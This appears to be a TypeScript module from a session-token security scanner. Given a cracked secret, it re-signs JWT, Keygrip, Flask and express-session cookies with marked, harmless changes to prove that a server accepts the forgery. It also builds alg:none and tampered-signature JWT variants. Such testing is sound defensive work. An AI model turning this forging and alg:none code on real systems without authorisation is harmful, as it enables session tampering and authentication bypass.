/**
 * Forging: re-sign a token with a secret, changing what the format lets an attacker change, so
 * that acceptance by the server proves the forgery (not a replay of the original). Used only
 * under --prove and for the alg:none test. Each returns the cookie values to send (name → raw
 * value as it goes in the Cookie header), or undefined when the token cannot be rebuilt.
 */
import { randomBytes } from 'node:crypto';
import { fromBase64, safeDecodeURIComponent, type DecodedToken } from './formats.js';
import { sign } from './crack.js';

export interface Forged {
  cookies: Record<string, string>;
  /** What changed, in words, for the report. */
  change: string;
}

const b64url = (b: Buffer): string => b.toString('base64url');

function forgeJwt(name: string, raw: string, token: DecodedToken, secret: Buffer): Forged | undefined {
  // A wrapped token (URL-encoded, "Bearer " prefix) would need the same wrapping to be accepted.
  if (!token.jwt || !token.signed || raw.split('.').length !== 3 || !/^[A-Za-z0-9_.-]+$/.test(raw)) return undefined;
  const payload = { ...token.jwt.payload };
  let change: string;
  if (typeof payload.iat === 'number') {
    payload.iat -= 1;
    change = 'the JWT re-signed with iat moved one second earlier (a payload the server never issued)';
  } else {
    payload.session_audit = 'forged';
    change = 'the JWT re-signed with an added claim "session_audit" (a payload the server never issued)';
  }
  const input = `${b64url(Buffer.from(JSON.stringify(token.jwt.header)))}.${b64url(Buffer.from(JSON.stringify(payload)))}`;
  return { cookies: { [name]: `${input}.${b64url(sign(token.signed, Buffer.from(input), secret))}` }, change };
}

function forgeKeygrip(name: string, raw: string, token: DecodedToken, secret: Buffer): Forged | undefined {
  if (!token.signed) return undefined;
  let value = raw;
  let change = `${name} re-signed unchanged (its value is not JSON, so there is nothing to alter safely)`;
  if (token.state && typeof token.state === 'object' && !Array.isArray(token.state)) {
    value = Buffer.from(JSON.stringify({ ...token.state, session_audit: 'forged' })).toString('base64');
    change = `the session JSON with an added field "session_audit", signed as ${name}.sig (a state the server never issued)`;
  }
  const sig = sign(token.signed, Buffer.from(`${name}=${value}`), secret).toString('base64').replace(/\//g, '_').replace(/\+/g, '-').replace(/=/g, '');
  return { cookies: { [name]: value, [`${name}.sig`]: sig }, change };
}

/** itsdangerous int_to_bytes: big-endian, no leading zero bytes. */
function intToBytes(n: number): Buffer {
  const out: number[] = [];
  let x = n;
  while (x > 0) {
    out.unshift(x % 256);
    x = Math.floor(x / 256);
  }
  return Buffer.from(out);
}

function forgeFlask(name: string, raw: string, token: DecodedToken, secret: Buffer): Forged | undefined {
  if (!token.signed) return undefined;
  // <payload>.<timestamp>.<signature>; a compressed payload itself starts with '.'.
  const v = safeDecodeURIComponent(raw);
  const i2 = v.lastIndexOf('.');
  const i1 = v.lastIndexOf('.', i2 - 1);
  if (i1 <= 0) return undefined;
  const payload = v.slice(0, i1);
  const ts = v.slice(i1 + 1, i2);
  const old = fromBase64(ts);
  const oldTs = old ? old.reduce((n, b) => n * 256 + b, 0) : 0;
  // A fresh timestamp (never in the future: itsdangerous rejects negative ages).
  let now = Math.floor(Date.now() / 1000);
  if (now === oldTs) now -= 1;
  const value = `${payload}.${b64url(intToBytes(now))}`;
  const sig = sign(token.signed, Buffer.from(value), secret);
  return { cookies: { [name]: `${value}.${b64url(sig)}` }, change: 'the Flask session re-signed with a new timestamp (a cookie the server never issued)' };
}

function forgeExpress(name: string, token: DecodedToken, secret: Buffer): Forged | undefined {
  if (!token.signed || token.id === undefined) return undefined;
  const sig = sign(token.signed, Buffer.from(token.id), secret).toString('base64').replace(/=+$/, '');
  return {
    cookies: { [name]: encodeURIComponent(`s:${token.id}.${sig}`) },
    change:
      "the victim's own session ID, signed from scratch with the found secret; express-session IDs are random server-side keys, so the forged cookie is byte-identical to the one the server issued and an attacker cannot invent a logged-in session, only sign IDs learned elsewhere (logs, store dumps, an unsigned ID in a URL)",
  };
}

export function forge(name: string, raw: string, token: DecodedToken, secret: Buffer): Forged | undefined {
  try {
    switch (token.format) {
      case 'jwt':
        return forgeJwt(name, raw, token, secret);
      case 'keygrip':
        return forgeKeygrip(name, raw, token, secret);
      case 'flask':
        return forgeFlask(name, raw, token, secret);
      case 'express-session':
        return forgeExpress(name, token, secret);
      default:
        return undefined;
    }
  } catch {
    return undefined;
  }
}

/** A random secret for the control request: what an attacker without the secret can do. */
export function randomSecret(): Buffer {
  return randomBytes(32);
}

/** The JWT re-encoded with `alg` set to `variant` and an empty signature. */
export function algNoneToken(token: DecodedToken, raw: string, variant: string): string | undefined {
  if (!token.jwt) return undefined;
  const parts = raw.split('.');
  if (parts.length !== 3) return undefined;
  return `${b64url(Buffer.from(JSON.stringify({ ...token.jwt.header, alg: variant })))}.${parts[1]}.`;
}

/** The JWT with its signature altered (the control: a server that verifies must refuse it). */
export function tamperedJwt(raw: string): string | undefined {
  const parts = raw.split('.');
  const sig = parts[2];
  if (parts.length !== 3 || !sig) return undefined;
  const first = sig[0] === 'A' ? 'B' : 'A';
  return `${parts[0]}.${parts[1]}.${first}${sig.slice(1)}`;
}
